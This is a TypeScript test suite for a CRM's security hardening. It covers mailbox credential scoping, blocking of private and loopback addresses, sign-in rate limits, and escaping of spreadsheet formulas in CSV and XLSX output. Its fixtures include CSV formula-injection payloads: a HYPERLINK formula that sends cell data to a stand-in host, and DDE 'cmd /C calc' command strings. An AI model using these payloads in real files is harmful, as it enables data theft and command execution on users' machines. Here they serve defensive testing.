import assert from 'node:assert/strict';
import { randomInt } from 'node:crypto';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { PassThrough } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { eq } from 'drizzle-orm';
import { Redis } from 'ioredis';
import type { FastifyInstance } from 'fastify';
import { openWorld, type World } from './helpers/world.js';
import { openAdminApp, type AdminApp } from './helpers/browser.js';
import { PanelClient, pageText as text } from './helpers/http-client.js';
import { runCrm } from './helpers/cli.js';
import { ConfigError, loadConfig } from '../core/config.js';
import { mailboxes } from '../core/db/schema/index.js';
import { ServiceError } from '../core/errors.js';
import type { User } from '../core/users/users.js';
import { defaultMailPolicy, mailEnv, type MailEnv } from '../core/mail/env.js';
import { isPrivateAddress } from '../core/mail/connection.js';
import {
  checkMailboxConnection,
  checkMailboxSettings,
  createMailbox,
  mailboxPassword,
  updateMailbox,
  type Mailbox,
  type MailboxInput,
} from '../core/mail/mailboxes.js';
import { importMailbox } from '../core/mail/import.js';
import { importCounterpartiesFile } from '../core/imports/run-file.js';
import { createContact } from '../core/contacts/contacts.js';
import { assignMailingType, createMailingType } from '../core/mailing/mailing-types.js';
import { exportMailingTypeXlsx } from '../core/mailing/export.js';
import { listImportRows } from '../core/imports/stage.js';

/**
 * Hardening: secrets and limits hold against the people who can reach them — a mailbox password
 * goes only to its own server, a mailbox check cannot probe the CRM's own network, sign-in
 * guessing is counted exactly and per address, an exported file does not run formulas, and a
 * `crm` command next to a running CRM says what to do.
 */

/**
 * A TCP listener standing for "some other server": it counts connections and hangs up at once,
 * so a client that reaches it fails fast and the test can tell that it was reached.
 */
async function listener(): Promise<{ port: number; connections: () => number; close(): Promise<void> }> {
  let n = 0;
  const server = net.createServer((socket) => {
    n++;
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    port: (server.address() as net.AddressInfo).port,
    connections: () => n,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

const invalidOn = (field: string, message?: RegExp) => (e: unknown) =>
  e instanceof ServiceError && e.code === 'invalid' && field in e.fields && (!message || message.test(e.fields[field]!));

describe('a mailbox password goes only to its own servers', () => {
  let w: World;
  let admin: User;
  let env: MailEnv;
  let dataDir: string;
  let stored: Awaited<ReturnType<typeof listener>>;
  let stranger: Awaited<ReturnType<typeof listener>>;
  let mb: Mailbox;
  const password = 'пароль-из-хранилища-7';

  before(async () => {
    [w, stored, stranger] = await Promise.all([openWorld(), listener(), listener()]);
    admin = await w.user('admin');
    dataDir = mkdtempSync(path.join(os.tmpdir(), 'crm-hardening-'));
    // the servers of these tests listen on 127.0.0.1
    env = { ...defaultMailPolicy, secretKey: 's'.repeat(40), dataDir, publicUrl: 'http://crm.test', timeoutMs: 2000, allowPrivateHosts: true };
    mb = await createMailbox(w.as(admin), env, {
      name: 'Продажи',
      login: 'sales@company.test',
      password,
      imapHost: '127.0.0.1',
      imapPort: stored.port,
      imapEncryption: 'none',
      smtpHost: '127.0.0.1',
      smtpPort: stored.port,
      smtpEncryption: 'none',
    });
  });
  after(async () => {
    await Promise.all([stored?.close(), stranger?.close()]);
    await w?.close();
    if (dataDir) rmSync(dataDir, { recursive: true, force: true });
  });

  test('«check connection» of an edited form with the password left empty: another server, port, encryption or login needs the password typed', async () => {
    const edits: Partial<MailboxInput>[] = [
      { imapPort: stranger.port },
      { smtpPort: stranger.port },
      { imapHost: 'localhost', imapPort: stranger.port },
      { smtpHost: 'localhost' },
      { imapEncryption: 'starttls' },
      { login: 'boss@company.test' },
    ];
    for (const edit of edits) {
      await assert.rejects(
        checkMailboxSettings(w.as(admin), env, { mailboxId: mb.id, password: '', ...edit }),
        invalidOn('password', /введите пароль ящика ещё раз/),
        JSON.stringify(edit),
      );
    }
    assert.equal(stranger.connections(), 0, 'the other server never heard from the CRM');
    // the same form with the settings as stored still uses the stored password
    const before = stored.connections();
    const same = await checkMailboxSettings(w.as(admin), env, { mailboxId: mb.id, name: 'Продажи (правка)', password: '', imapHost: '127.0.0.1', imapPort: stored.port });
    assert.equal(same.ok, false, 'the stand-in server hangs up');
    assert.ok(stored.connections() > before, 'the stored server was tried');
    // with the password typed, the other server is tried
    await checkMailboxSettings(w.as(admin), env, { mailboxId: mb.id, password: 'набранный-пароль', imapPort: stranger.port, smtpPort: stranger.port });
    assert.ok(stranger.connections() > 0);
  });

  test('saving a mailbox with another server or login keeps no stored password for it', async () => {
    await assert.rejects(updateMailbox(w.as(admin), env, mb.id, { imapHost: 'localhost', password: '' }), invalidOn('password'));
    await assert.rejects(updateMailbox(w.as(admin), env, mb.id, { login: 'boss@company.test' }), invalidOn('password'));
    const [row] = await w.system.db.select().from(mailboxes).where(eq(mailboxes.id, mb.id));
    assert.deepEqual([row!.imapHost, row!.login], ['127.0.0.1', 'sales@company.test'], 'nothing was saved');
    // a rename keeps the password; a new server with a new password is saved
    await updateMailbox(w.as(admin), env, mb.id, { name: 'Отдел продаж', password: '' });
    const moved = await updateMailbox(w.as(admin), env, mb.id, { imapHost: 'localhost', password: 'новый-пароль' });
    assert.equal(moved.imapHost, 'localhost');
    const [after] = await w.system.db.select().from(mailboxes).where(eq(mailboxes.id, mb.id));
    assert.equal(mailboxPassword(env, after!), 'новый-пароль');
  });

  test('without MAIL_ALLOW_PRIVATE_HOSTS neither «check connection», nor saving, nor the import reaches loopback or private addresses', async () => {
    const strict: MailEnv = { ...env, allowPrivateHosts: false };
    const form = (hosts: Partial<MailboxInput>): MailboxInput => ({
      name: 'Внутренний',
      login: `inner-${randomInt(1e9)}@company.test`,
      password: 'p',
      imapHost: '203.0.113.10',
      imapPort: 993,
      imapEncryption: 'ssl',
      smtpHost: '203.0.113.10',
      smtpPort: 465,
      smtpEncryption: 'ssl',
      ...hosts,
    });
    for (const host of ['127.0.0.1', '10.1.2.3', '172.20.0.5', '192.168.1.10', '169.254.169.254', '[::1]', '::ffff:127.0.0.1', 'fd00::1', 'fe80::1', '0.0.0.0', 'localhost']) {
      await assert.rejects(createMailbox(w.as(admin), strict, form({ imapHost: host })), invalidOn('imapHost', /MAIL_ALLOW_PRIVATE_HOSTS=true/), host);
      await assert.rejects(createMailbox(w.as(admin), strict, form({ smtpHost: host })), invalidOn('smtpHost', /внутренняя сеть/), host);
    }
    // «localhost» is refused for what it resolves to
    await assert.rejects(createMailbox(w.as(admin), strict, form({ imapHost: 'localhost' })), invalidOn('imapHost', /localhost ведёт на адрес/));
    await assert.rejects(updateMailbox(w.as(admin), strict, mb.id, { smtpHost: '10.0.0.25', password: 'x' }), invalidOn('smtpHost'));

    // a typed form pointing at the stand-in server: refused on the field, never connected
    await assert.rejects(
      checkMailboxSettings(w.as(admin), strict, { ...form({ imapHost: '127.0.0.1', smtpHost: '127.0.0.1' }), imapPort: stranger.port, smtpPort: stranger.port }),
      invalidOn('imapHost'),
    );
    // a mailbox stored earlier on such an address: the check, the import and sending are refused at the connection
    const before = stored.connections();
    const r = await checkMailboxConnection(w.as(admin), strict, mb.id);
    assert.equal(r.ok, false);
    assert.match(r.imap.error!, /^IMAP: Соединение не установлено: .*MAIL_ALLOW_PRIVATE_HOSTS=true/);
    assert.match(r.smtp.error!, /^SMTP: Соединение не установлено: адрес 127\.0\.0\.1 — это сервер самой CRM или внутренняя сеть/);
    await assert.rejects(importMailbox(w.system, strict, mb.id));
    const [row] = await w.system.db.select().from(mailboxes).where(eq(mailboxes.id, mb.id));
    assert.match(row!.lastError!, /^Импорт: Соединение не установлено: .*MAIL_ALLOW_PRIVATE_HOSTS/);
    assert.equal(stored.connections(), before, 'no connection was made');
  });

  test('the private ranges, and the setting that allows them', () => {
    for (const a of ['127.0.0.1', '127.255.0.9', '10.0.0.1', '172.16.0.1', '172.31.255.255', '192.168.0.1', '169.254.169.254', '0.0.0.0', '100.64.0.1', '::1', '::', 'fc00::1', 'fdff:ffff::1', 'fe80::1', 'febf::1', '::ffff:10.0.0.1', '::ffff:7f00:1']) {
      assert.equal(isPrivateAddress(a), true, a);
    }
    for (const a of ['77.88.21.125', '8.8.8.8', '172.15.255.255', '172.32.0.1', '192.169.0.1', '2a02:6b8::1', 'fec0::1', '::ffff:8.8.8.8']) {
      assert.equal(isPrivateAddress(a), false, a);
    }
    const base = { DATA_DIR: '/tmp', SECRET_KEY: 's'.repeat(40) };
    assert.equal(mailEnv({ config: loadConfig(base), secretKey: 'k' }).allowPrivateHosts, false, 'off by default');
    assert.equal(mailEnv({ config: loadConfig({ ...base, MAIL_ALLOW_PRIVATE_HOSTS: 'true' }), secretKey: 'k' }).allowPrivateHosts, true);
  });
});

describe('the mailbox form in the admin panel', () => {
  let a: AdminApp;
  let admin: User;
  let target: Awaited<ReturnType<typeof listener>>;
  let id: number;

  before(async () => {
    [a, target] = await Promise.all([openAdminApp(), listener()]);
    admin = await a.world.user('admin');
    // stored while private servers were allowed; this panel runs without MAIL_ALLOW_PRIVATE_HOSTS
    const allowing = mailEnv(a.services, { allowPrivateHosts: true, timeoutMs: 2000 });
    id = (
      await createMailbox(a.world.as(admin), allowing, {
        name: 'Офис',
        login: 'office@company.test',
        password: 'офисный-пароль',
        imapHost: 'mail.company.test',
        imapPort: 993,
        imapEncryption: 'ssl',
        smtpHost: 'mail.company.test',
        smtpPort: 465,
        smtpEncryption: 'ssl',
      })
    ).id;
  });
  after(async () => {
    await target?.close();
    await a?.close();
  });

  const servers = (host: string, port: number) => ({ imapHost: host, imapPort: String(port), imapEncryption: 'none', smtpHost: host, smtpPort: String(port), smtpEncryption: 'none' });

  test('«check connection» with another server and the password left empty asks for the password and connects nowhere', async () => {
    const c = new PanelClient(a.app);
    await c.signIn(admin.email);
    const res = await c.post('/admin/mailboxes/check', { mailboxId: String(id), name: 'Офис', service: 'other', login: 'office@company.test', password: '', ...servers('127.0.0.1', target.port) });
    assert.equal(res.statusCode, 400);
    assert.match(res.body, /id="m-password"[^>]*aria-invalid=true/);
    assert.match(text(res.body), /сервер, порт, шифрование или логин изменились — введите пароль ящика ещё раз/);
    const saved = await c.post(`/admin/mailboxes/${id}`, { name: 'Офис', service: 'other', login: 'office@company.test', password: '', active: 'on', ...servers('127.0.0.1', target.port) });
    assert.equal(saved.statusCode, 400);
    assert.match(text(saved.body), /введите пароль ящика ещё раз/);
    // typed, the password is still not sent to this CRM's own machine
    const typed = await c.post('/admin/mailboxes/check', { mailboxId: String(id), name: 'Офис', service: 'other', login: 'office@company.test', password: 'набранный', ...servers('127.0.0.1', target.port) });
    assert.equal(typed.statusCode, 400);
    assert.match(typed.body, /id="m-imapHost"[^>]*aria-invalid=true/);
    assert.match(text(typed.body), /адрес 127\.0\.0\.1 — это сервер самой CRM или внутренняя сеть; почтовые серверы по таким адресам разрешает настройка MAIL_ALLOW_PRIVATE_HOSTS=true/);
    const added = await c.post('/admin/mailboxes', { name: 'Новый', service: 'other', login: 'new@company.test', password: 'p', active: 'on', ...servers('192.168.0.10', 143) });
    assert.equal(added.statusCode, 400);
    assert.match(added.body, /id="m-smtpHost"[^>]*aria-invalid=true/);
    assert.equal(target.connections(), 0);
  });
});

/** A sign-in client with its own CSRF cookie, posting from a chosen client address. */
async function signInForm(app: FastifyInstance) {
  const page = await app.inject({ url: '/admin/login' });
  const cookie = [page.headers['set-cookie'] ?? []].flat().map((c) => String(c).split(';')[0]).join('; ');
  const csrf = /name="_csrf" value="([^"]+)"/.exec(page.body)![1]!;
  return (email: string, password: string, from: string, headers: Record<string, string> = {}) =>
    app
      .inject({
        method: 'POST',
        url: '/admin/login',
        remoteAddress: from,
        headers: { cookie, 'content-type': 'application/x-www-form-urlencoded', ...headers },
        payload: new URLSearchParams({ _csrf: csrf, email, password }).toString(),
      })
      .then((r) => r.statusCode);
}

/** a client address of its own for each test (198.18.0.0/15 is for tests), so counts kept in a shared Redis never meet */
const someAddress = () => `198.18.${randomInt(256)}.${randomInt(1, 255)}`;
const redisEnv = (): Record<string, string> => (process.env.TEST_REDIS_URL ? { REDIS_URL: process.env.TEST_REDIS_URL } : {});
const countOf = (codes: number[]) => codes.reduce<Record<number, number>>((m, c) => ({ ...m, [c]: (m[c] ?? 0) + 1 }), {});

describe('sign-in guessing (counted in Redis when TEST_REDIS_URL is set)', () => {
  let a: AdminApp;
  let head: User;
  let manager: User;

  before(async () => {
    // the panel's own limits: 10 failures per address and e-mail, 30 per address, in 15 minutes
    a = await openAdminApp({ env: redisEnv() });
    head = await a.world.user('head');
    manager = await a.world.user('manager');
  });
  after(() => a?.close());

  test('forty wrong passwords at once for one e-mail get exactly ten tries', async () => {
    const post = await signInForm(a.app);
    const from = someAddress();
    const codes = await Promise.all(Array.from({ length: 40 }, (_, i) => post(head.email, `wrong-${i}`, from)));
    assert.deepEqual(countOf(codes), { 401: 10, 429: 30 });
    assert.equal(await post(head.email, 'password123', from), 429, 'the right password waits for the window too');
  });

  test('one wrong password for each of many e-mails from one address: the address is held back after thirty', async () => {
    const post = await signInForm(a.app);
    const from = someAddress();
    const codes: number[] = [];
    for (let i = 0; i < 34; i++) codes.push(await post(`guess-${i}-${randomInt(1e9)}@company.test`, 'Summer2024!', from));
    assert.deepEqual(codes, [...Array(30).fill(401), ...Array(4).fill(429)]);
    assert.equal(await post(manager.email, 'password123', from), 429);
    assert.equal(await post(manager.email, 'password123', someAddress()), 303, 'another address is not affected');
  });

  test('colleagues signing in from one office address are never held back: a success gives its place back', async () => {
    const post = await signInForm(a.app);
    const office = someAddress();
    const codes: number[] = [];
    for (let i = 0; i < 32; i++) codes.push(await post(i % 2 ? manager.email : head.email, 'password123', office));
    assert.deepEqual(countOf(codes), { 303: 32 });
    assert.equal(await post(manager.email, 'wrong', office), 401);
  });

  test('a rotated X-Forwarded-For does not step around the limit; with TRUST_PROXY naming the proxy it is the client address', async () => {
    // from ::1, once trusted without being configured
    const email = `xff-${randomInt(1e9)}@company.test`;
    const post = await signInForm(a.app);
    const codes: number[] = [];
    for (let i = 0; i < 12; i++) codes.push(await post(email, `wrong-${i}`, '::1', { 'x-forwarded-for': someAddress() }));
    assert.deepEqual(codes, [...Array(10).fill(401), 429, 429]);
    if (process.env.TEST_REDIS_URL) {
      const redis = new Redis(process.env.TEST_REDIS_URL);
      await redis.del(`crm-admin-login-fail:::1|${email}`, 'crm-admin-login-fail:address:::1');
      await redis.quit();
    }

    const proxied = await openAdminApp({ env: { ...redisEnv(), TRUST_PROXY: '::1, 10.0.0.0/8' } });
    try {
      const viaProxy = await signInForm(proxied.app);
      const clients: number[] = [];
      for (let i = 0; i < 12; i++) clients.push(await viaProxy(email, `wrong-${i}`, '::1', { 'x-forwarded-for': someAddress() }));
      assert.deepEqual(countOf(clients), { 401: 12 }, 'each client behind the proxy has its own count');
    } finally {
      await proxied.close();
    }
  });

  test('TRUST_PROXY: nobody by default, true, or addresses and CIDR ranges', () => {
    const base = { DATA_DIR: '/tmp' };
    assert.equal(loadConfig(base).TRUST_PROXY, false);
    assert.equal(loadConfig({ ...base, TRUST_PROXY: 'true' }).TRUST_PROXY, true);
    assert.deepEqual(loadConfig({ ...base, TRUST_PROXY: '127.0.0.1, 10.0.0.0/8 fd00::/8,loopback' }).TRUST_PROXY, ['127.0.0.1', '10.0.0.0/8', 'fd00::/8', 'loopback']);
    assert.throws(() => loadConfig({ ...base, TRUST_PROXY: 'nginx' }), (e: unknown) => e instanceof ConfigError && /^Invalid TRUST_PROXY: not an address or CIDR range: nginx/.test(e.message));
    assert.throws(() => loadConfig({ ...base, TRUST_PROXY: '10.0.0.0/33' }), ConfigError);
  });
});

describe('the rejected rows of an import open in a spreadsheet as text', () => {
  let w: World;
  let admin: User;
  let dir: string;

  before(async () => {
    w = await openWorld();
    admin = await w.user('admin');
    dir = mkdtempSync(path.join(os.tmpdir(), 'crm-rejected-'));
  });
  after(async () => {
    await w?.close();
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  test('cells starting with = + - @ get an apostrophe, plain numbers stay, and the file loads back with the values it had', async () => {
    const rows = [
      ['Наименование', 'ИНН', 'Телефон', '@Примечание'],
      ['=HYPERLINK("http://evil.test/?"&A1,"Открыть")', '1234567890', '+7 495 000-11-22', '@SUM(A1)'],
      ["+cmd|' /C calc'!A0", '1111111111', '-5', "-2+3+cmd|' /C calc'!A0"],
      ['ООО «Обычная»', '2222222222', '+74950001122', 'просто текст'],
    ];
    const file = path.join(dir, 'клиенты.csv');
    writeFileSync(file, rows.map((r) => r.join(';')).join('\r\n'));
    const { rejectedFile } = await importCounterpartiesFile(w.as(admin), { file, kind: 'legal_entity', createValid: true });
    assert.equal(rejectedFile, path.join(dir, 'клиенты.rejected.csv'));
    assert.ok(existsSync(rejectedFile!));
    const rejected = parse(readFileSync(rejectedFile!), { delimiter: ';', bom: true }) as string[][];
    assert.deepEqual(rejected[0], ['Наименование', 'ИНН', 'Телефон', "'@Примечание", 'Строка файла', 'Причина']);
    assert.deepEqual(
      rejected.slice(1).map((r) => r.slice(0, 4)),
      [
        ['\'=HYPERLINK("http://evil.test/?"&A1,"Открыть")', '1234567890', "'+7 495 000-11-22", "'@SUM(A1)"],
        ["'+cmd|' /C calc'!A0", '1111111111', '-5', "'-2+3+cmd|' /C calc'!A0"],
        ['ООО «Обычная»', '2222222222', '+74950001122', 'просто текст'],
      ],
    );
    for (const cell of rejected.flat()) assert.ok(!/^\s*[=+\-@]/.test(cell) || /^[+-]?\d+$/.test(cell), `no formula: ${cell}`);

    // fixed in Excel and loaded again, the cells read as they were written the first time
    const again = path.join(dir, 'исправленные.csv');
    writeFileSync(again, readFileSync(rejectedFile!));
    const { batch } = await importCounterpartiesFile(w.as(admin), { file: again, kind: 'legal_entity' });
    assert.deepEqual(batch.headers.slice(0, 4), rows[0]);
    const staged = await listImportRows(w.as(admin), batch.id, { limit: 10 });
    assert.deepEqual(staged.map((r) => r.raw.slice(0, 4)), rows.slice(1));
  });

  test('the Excel export of a mailing list keeps such values as text cells, as they are', async () => {
    const contact = await createContact(w.system, { name: '=HYPERLINK("http://evil.test","Открыть")', position: '@SUM(A1)', emails: ['formula@client.test'] });
    const type = await createMailingType(w.as(admin), { name: `Формулы ${randomInt(1e9)}` });
    await assignMailingType(w.as(admin), type.id, { ids: [contact.id] });
    const out = new PassThrough();
    const [, bytes] = await Promise.all([exportMailingTypeXlsx(w.as(admin), type.id, out), buffer(out)]);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(bytes as unknown as ArrayBuffer);
    const row = book.worksheets[0]!.getRow(2);
    for (const [col, value] of [[2, contact.name], [3, '@SUM(A1)']] as const) {
      assert.equal(row.getCell(col).type, ExcelJS.ValueType.String);
      assert.equal(row.getCell(col).value, value, 'shown as typed, without an apostrophe');
    }
  });
});

describe('a crm command while the CRM holds the built-in database', () => {
  let dataDir: string;
  before(() => {
    dataDir = mkdtempSync(path.join(os.tmpdir(), 'crm-locked-'));
  });
  after(() => rmSync(dataDir, { recursive: true, force: true }));

  test('prints one Russian line saying what to do and exits non-zero', async () => {
    // this test process stands for the running CRM: alive, and holding the lock
    writeFileSync(path.join(dataDir, 'pglite.pid'), String(process.pid));
    const env = { PATH: process.env.PATH, HOME: process.env.HOME, DATA_DIR: dataDir, LOG_LEVEL: 'warn' };
    const r = await runCrm(['user:create', '--email', 'new@company.test', '--name', 'Новый', '--role', 'manager'], { env, cwd: dataDir });
    assert.notEqual(r.code, 0);
    assert.equal(r.stdout, '');
    const lines = r.stderr.trim().split('\n');
    assert.equal(lines.length, 1, r.stderr);
    assert.match(lines[0]!, new RegExp(`^Ошибка: База данных в ${dataDir.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')} занята процессом ${process.pid}`));
    assert.match(lines[0]!, /Остановите CRM и повторите команду или переведите CRM на PostgreSQL \(DATABASE_URL\)/);
    assert.equal(readFileSync(path.join(dataDir, 'pglite.pid'), 'utf8'), String(process.pid), 'the lock still belongs to the running CRM');
  });
});
